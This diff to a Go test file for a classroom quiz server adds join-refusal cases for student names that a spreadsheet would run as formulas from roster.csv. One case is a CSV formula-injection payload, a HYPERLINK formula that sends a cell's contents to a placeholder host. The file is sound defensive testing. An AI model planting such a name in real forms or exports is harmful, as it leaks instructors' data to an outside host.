@@ -82,7 +82,7 @@ func TestNoStudentReadsAnswersBeforeTheReveal(t *testing.T) {
 }
 
 // Joining is refused in one line: a name taken, a class full, a wrong
-// join code, an empty name.
+// join code, an empty name, a name a spreadsheet reads as a formula.
 func TestJoinRefusals(t *testing.T) {
 	cl, srv := newTestClass(t, "", Options{MaxStudents: 2, Code: "k7q2"})
 	if cl.JoinCode() != "k7q2" {
@@ -101,6 +101,11 @@ func TestJoinRefusals(t *testing.T) {
 		{"Chen", "nope", http.StatusForbidden, "Wrong join code"},
 		{"", "k7q2", http.StatusBadRequest, "That name cannot be used"},
 		{"a\x1bb", "k7q2", http.StatusBadRequest, "That name cannot be used"},
+		// A formula in roster.csv, run by the instructor's spreadsheet.
+		{`=HYPERLINK("http://x/?"&B2,"Ada")`, "k7q2", http.StatusBadRequest, "That name cannot be used"},
+		{" +1", "k7q2", http.StatusBadRequest, "That name cannot be used"},
+		{"-2+3", "k7q2", http.StatusBadRequest, "That name cannot be used"},
+		{"@SUM(1)", "k7q2", http.StatusBadRequest, "That name cannot be used"},
 	}
 	for _, c := range cases {
 		status, body := newBrowser(t, srv.URL).post("/join", url.Values{"name": {c.name}, "code": {c.code}})
